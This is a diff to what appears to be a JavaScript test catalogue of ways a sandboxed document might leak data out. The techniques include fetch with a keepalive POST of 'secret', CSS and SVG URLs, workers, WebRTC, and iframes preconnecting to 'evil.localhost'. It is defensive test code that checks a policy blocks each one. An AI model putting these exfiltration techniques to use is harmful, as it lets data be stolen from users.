@@ -2,7 +2,8 @@
  * Every way out of a document that we know, by the id of its attack. `tests/attacks/catalogue.py` says what each is
  * about. A test puts this into a View and calls `attempt(id, place)` for each: nothing of it may arrive.
  *
- * What an attempt leaves behind is its signs: what it returned or threw, and which directive of the policy was violated.
+ * What an attempt leaves behind is its signs: what it returned or threw, and which directive of the policy was
+ * violated.
  */
 
 /** @type {Record<string, string[]>} */
@@ -63,7 +64,8 @@ const peer = async (server) => {
 const attempts = {
   // Connections
   "out-fetch": () => fetch(to("out-fetch"), { mode: "no-cors" }),
-  "out-fetch-keepalive": () => fetch(to("out-fetch-keepalive"), { method: "POST", body: "secret", mode: "no-cors", keepalive: true }),
+  "out-fetch-keepalive": () =>
+    fetch(to("out-fetch-keepalive"), { method: "POST", body: "secret", mode: "no-cors", keepalive: true }),
   "out-fetch-later": () => globalThis.fetchLater(to("out-fetch-later"), { activateAfter: 0 }).activated,
   "out-xhr": () =>
     new Promise((done, fail) => {
@@ -107,7 +109,8 @@ const attempts = {
   "out-svg-image": () => markup(`<svg><image href="${to("out-svg-image")}"/></svg>`),
   "out-background": () => put("table", { background: to("out-background") }),
   "out-css-url": () => put("p", { style: `background: url(${to("out-css-url")})` }, "x"),
-  "out-border-image": () => put("p", { style: `border: 9px solid; border-image: url(${to("out-border-image")}) 1` }, "x"),
+  "out-border-image": () =>
+    put("p", { style: `border: 9px solid; border-image: url(${to("out-border-image")}) 1` }, "x"),
   "out-css-mask": () => put("p", { style: `mask: url(${to("out-css-mask")})` }, "x"),
   "out-css-import": () => style(`@import url(${to("out-css-import")});`),
   "out-stylesheet": () => link("stylesheet", "out-stylesheet"),
@@ -142,8 +145,10 @@ const attempts = {
   "out-worker": () => work(() => new Worker(to("out-worker"))),
   "out-shared-worker": () => work(() => new SharedWorker(to("out-shared-worker"))),
   "out-blob-worker": () => work(() => new Worker(blob(fetcher("out-blob-worker")))),
-  "out-data-worker": () => work(() => new Worker(`data:text/javascript,${encodeURIComponent(fetcher("out-data-worker"))}`)),
-  "out-import-scripts": () => work(() => new Worker(blob(`importScripts(${JSON.stringify(to("out-import-scripts"))})`))),
+  "out-data-worker": () =>
+    work(() => new Worker(`data:text/javascript,${encodeURIComponent(fetcher("out-data-worker"))}`)),
+  "out-import-scripts": () =>
+    work(() => new Worker(blob(`importScripts(${JSON.stringify(to("out-import-scripts"))})`))),
   "out-blob-shared-worker": () => work(() => new SharedWorker(blob(fetcher("out-blob-shared-worker")))),
   "out-service-worker": () => navigator.serviceWorker.register(to("out-service-worker")),
   "out-worklet": () => new AudioContext().audioWorklet.addModule(to("out-worklet")),
@@ -173,7 +178,7 @@ const attempts = {
         const connection = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${place.nestedStun}" }] });
         connection.createDataChannel("x");
         connection.createOffer().then((offer) => connection.setLocalDescription(offer));
-      </` + "script>",
+      </${"script"}>`,
     }),
   "out-nested-preconnect": () =>
     put("iframe", { srcdoc: `<link rel="preconnect" href="http://evil.localhost:${place.nestedPreconnect}">` }),
@@ -194,7 +199,8 @@ const attempts = {
     put("iframe", { name: "inner" });
     click("a", { href: to("out-frame-target"), target: "inner" });
   },
-  "out-frame-borrowed-fetch": () => put("iframe").contentWindow.fetch(to("out-frame-borrowed-fetch"), { mode: "no-cors" }),
+  "out-frame-borrowed-fetch": () =>
+    put("iframe").contentWindow.fetch(to("out-frame-borrowed-fetch"), { mode: "no-cors" }),
 
   // Leaving, and opening another window
   "go-location": () => void (location.href = to("go-location")),
